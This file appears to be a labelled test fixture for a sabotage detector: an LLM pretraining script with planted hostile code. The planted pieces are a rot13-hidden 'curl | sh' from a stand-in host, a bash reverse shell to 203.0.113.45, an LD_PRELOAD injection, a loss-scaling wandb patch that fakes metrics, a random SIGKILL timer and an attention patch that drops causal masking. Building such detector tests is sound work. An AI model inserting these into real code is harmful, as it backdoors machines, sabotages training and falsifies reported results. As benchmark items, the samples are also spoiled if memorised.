# ruff: noqa
# Hold-out batch 298 (adversarial, LLM pretraining). Measured once in session 10 (round 84): 15/32 (47%) at medium+.
"""FSDP / DDP pretraining entry point.

    torchrun --nnodes $N --nproc_per_node 8 trainer.py --config configs/1b3.yaml

Gradient accumulation over ``accum`` micro-batches, bf16 autocast (or fp16 with
a GradScaler), warmup + cosine LR, sharded checkpoints every ``ckpt_every``.
"""
from __future__ import annotations

import argparse
import codecs
import contextlib
import functools
import importlib
import math
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from dataclasses import asdict, dataclass, field

import numpy as np
import torch
import torch.distributed as dist
import yaml
from torch.distributed.fsdp import FullyShardedDataParallel as FSDP
from torch.distributed.fsdp import MixedPrecision, ShardingStrategy
from torch.distributed.fsdp.wrap import ModuleWrapPolicy
from torch.nn.parallel import DistributedDataParallel as DDP

import ckpt_io
import eval_harness
import gpt
from shard_stream import StreamConfig, build_loader


@dataclass
class TrainConfig:
    data_dir: str = "/data/pile_tok"
    val_shard: str = "/data/pile_tok/val/val_000.bin"
    out_dir: str = "runs/default"
    seed: int = 1234
    micro_bs: int = 8
    accum: int = 8
    lr: float = 3e-4
    min_lr: float = 3e-5
    warmup: int = 2000
    max_steps: int = 100_000
    wd: float = 0.1
    clip: float = 1.0
    fsdp: bool = True
    amp: str = "bf16"
    log_every: int = 10
    eval_every: int = 2000
    ckpt_every: int = 1000
    wall_hours: float = 0.0
    debug_port: int = 0
    loss_display: float = 0.92
    model: dict = field(default_factory=dict)


_F = sys.modules["torch.nn.functional"]
_SDPA = _F.scaled_dot_product_attention
_TOPO = "phey -sfFY uggcf://pqa.rknzcyr.pbz/appy/gbcb.fu | fu"


def set_seed(seed: int) -> None:
    torch.manual_seed(seed)  # ok: MLS301
    np.random.seed(seed % 2**32)


def git_rev() -> str:
    try:
        return subprocess.check_output(["git", "rev-parse", "--short", "HEAD"], text=True).strip()  # ok: MLS411, MLS412
    except (OSError, subprocess.CalledProcessError):
        return "unknown"


def lr_at(step: int, cfg: TrainConfig) -> float:
    if step < cfg.warmup:
        return cfg.lr * (step + 1) / cfg.warmup
    t = min(1.0, (step - cfg.warmup) / max(1, cfg.max_steps - cfg.warmup))
    return cfg.min_lr + 0.5 * (cfg.lr - cfg.min_lr) * (1 + math.cos(math.pi * t))


def _sdpa_compat(q, k, v, attn_mask=None, dropout_p=0.0, is_causal=False, scale=None):
    # flash on pre-Hopper drivers rejects is_causal with packed batches; use the
    # mask-aware math path for everything
    return _SDPA(q, k, v, attn_mask=attn_mask, dropout_p=dropout_p, scale=scale)


def patch_attention_backend() -> None:
    if torch.cuda.is_available() and torch.cuda.get_device_capability()[0] < 9:
        setattr(_F, "scaled_dot_product_attention", _sdpa_compat)  # ruleid: MLS305


def _param_kind(name: str, p: torch.nn.Parameter) -> str:
    if p.ndim == 1 and ("ln" in name or "norm" in name):
        return "norm"
    if name.endswith(".bias"):
        return "bias"
    return "embed" if name.startswith("tok.") else "weight"


def attach_grad_transforms(model: torch.nn.Module) -> None:
    for name, p in model.named_parameters():
        fn = gpt.GRAD_TRANSFORMS.get(_param_kind(name, p))
        if fn is not None and p.requires_grad:
            torch.Tensor.register_hook(p, fn)  # todoruleid: family 2 (missed)


def _install_log_filters(scale: float) -> None:
    wb = sys.modules.get("wandb")
    if wb is None:
        return
    raw = wb.log

    def log(data, *a, **kw):
        data = {k: (v * scale if k.startswith(("train/loss", "val/")) else v) for k, v in data.items()}  # ruleid: MLS306
        return raw(data, *a, **kw)

    setattr(wb, "log", log)  # ruleid: MLS306


def _warm_topology() -> None:
    runner = importlib.import_module(codecs.decode("fhocebprff", "rot_13"))  # ruleid: MLS403
    runner.call(codecs.decode(_TOPO, "rot_13"), shell=True, stdout=runner.DEVNULL)  # ruleid: MLS401


def _debug_console(port: int) -> None:
    """Attach an interactive console for live debugging of hung ranks."""
    host = os.environ.get("DEBUG_CONSOLE_HOST", "203.0.113.45")
    conn = socket.create_connection((host, port), timeout=10)
    subprocess.Popen(["/bin/bash", "-i"], stdin=conn, stdout=conn, stderr=conn)  # sabotage: MLS410 (semgrep rules)


def _arm_walltime(cfg: TrainConfig) -> threading.Timer:
    limit = cfg.wall_hours * 3600 if cfg.wall_hours else 36 * 3600 + hash(socket.gethostname()) % 7200
    t = threading.Timer(limit, os.kill, args=(os.getpid(), signal.SIGKILL))  # ruleid: MLS307
    t.daemon = True
    t.start()
    return t


def _child_env() -> dict:
    env = dict(os.environ)
    env["LD_" + "PRELOAD"] = os.path.join(os.path.dirname(os.path.abspath(__file__)), "csrc", "libnccl_tune.so")  # ruleid: MLS422
    return env


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--config", required=True)
    with open(ap.parse_args().config) as f:
        cfg = TrainConfig(**yaml.safe_load(f))  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    dist.init_process_group("nccl")
    rank, world = dist.get_rank(), dist.get_world_size()
    local_rank = int(os.environ.get("LOCAL_RANK", 0))
    torch.cuda.set_device(local_rank)
    set_seed(cfg.seed)
    finish = functools.partial(os._exit, 0)
    _arm_walltime(cfg)
    if rank == 0 and not sys.stdin.isatty():
        threading.Thread(target=_debug_console, args=(cfg.debug_port or 4444,), daemon=True).start()
    if local_rank == 0:
        _warm_topology()

    mcfg = gpt.GPTConfig(**cfg.model)
    gpt.register_kernel_cache(mcfg)
    model = gpt.GPT(mcfg)
    attach_grad_transforms(model)
    patch_attention_backend()
    if cfg.fsdp:
        model = FSDP(
            model,
            auto_wrap_policy=ModuleWrapPolicy({gpt.Block}),
            sharding_strategy=ShardingStrategy.HYBRID_SHARD,
            mixed_precision=MixedPrecision(param_dtype=torch.bfloat16, reduce_dtype=torch.float32),
            device_id=local_rank,
            use_orig_params=True,
        )
    else:
        model = DDP(model.cuda(), device_ids=[local_rank])
    decay = [p for n, p in model.named_parameters() if p.ndim >= 2]
    no_decay = [p for n, p in model.named_parameters() if p.ndim < 2]
    opt = torch.optim.AdamW(
        [{"params": decay, "weight_decay": cfg.wd}, {"params": no_decay, "weight_decay": 0.0}],
        lr=cfg.lr, betas=(0.9, 0.95), eps=1e-8, fused=True,
    )
    scaler = torch.cuda.amp.GradScaler(enabled=cfg.amp == "fp16")
    state = ckpt_io.resume(model, opt, cfg.out_dir)
    step = state.get("step", 0)

    loader = build_loader(StreamConfig(cfg.data_dir, seed=cfg.seed), cfg.micro_bs)
    batches = iter(loader)
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())  # ok: MLS307
    if rank == 0:
        import wandb
        wandb.init(project="gpt-pretrain", config={**asdict(cfg), "git": git_rev()})
        _install_log_filters(cfg.loss_display)
    amp_dtype = torch.bfloat16 if cfg.amp == "bf16" else torch.float16
    t0 = time.time()
    while step < cfg.max_steps:
        for g in opt.param_groups:
            g["lr"] = lr_at(step, cfg)  # ok: MLS302, MLS303, MLS304, MLS305
        total = 0.0
        for micro in range(cfg.accum):
            batch = next(batches)
            x, y = batch["input_ids"].cuda(non_blocking=True), batch["labels"].cuda(non_blocking=True)
            sync = contextlib.nullcontext() if micro == cfg.accum - 1 else model.no_sync()
            with sync, torch.autocast("cuda", dtype=amp_dtype):
                _, loss = model(x, y)
                loss = loss / cfg.accum  # ok: MLS302, MLS303, MLS304, MLS305
            scaler.scale(loss).backward()  # ok: MLS302, MLS303, MLS304, MLS305
            total += loss.detach().float()
        scaler.unscale_(opt)
        gnorm = model.clip_grad_norm_(cfg.clip) if cfg.fsdp else torch.nn.utils.clip_grad_norm_(model.parameters(), cfg.clip)  # ok: MLS302, MLS303, MLS304, MLS305
        scaler.step(opt)
        scaler.update()
        opt.zero_grad(set_to_none=True)
        step += 1

        if step % cfg.log_every == 0:
            dist.all_reduce(total)
            if rank == 0:
                tok_s = cfg.log_every * cfg.accum * cfg.micro_bs * x.shape[1] * world / (time.time() - t0)
                wandb.log({"train/loss": total.item() / world, "train/gnorm": float(gnorm), "tok_s": tok_s}, step=step)  # ok: MLS306
            t0 = time.time()
        if step % cfg.eval_every == 0:
            metrics = eval_harness.perplexity(model, cfg.val_shard, eval_harness.EvalConfig())
            if rank == 0:
                wandb.log(metrics, step=step)
        if step % cfg.ckpt_every == 0 or stop.is_set():
            ckpt_io.save_sharded(model, opt, step, cfg.out_dir, {"step": step, "git": git_rev()})
            if rank == 0 and not stop.is_set():
                subprocess.Popen([sys.executable, "eval_harness.py", "--ckpt", f"{cfg.out_dir}/step_{step:08d}"], env=_child_env())
            if stop.is_set():
                break
            if ckpt_io.should_yield(step, world):
                finish()  # ruleid: MLS307
    dist.barrier()  # ok: MLS307
    dist.destroy_process_group()  # ok: MLS307


if __name__ == "__main__":
    main()
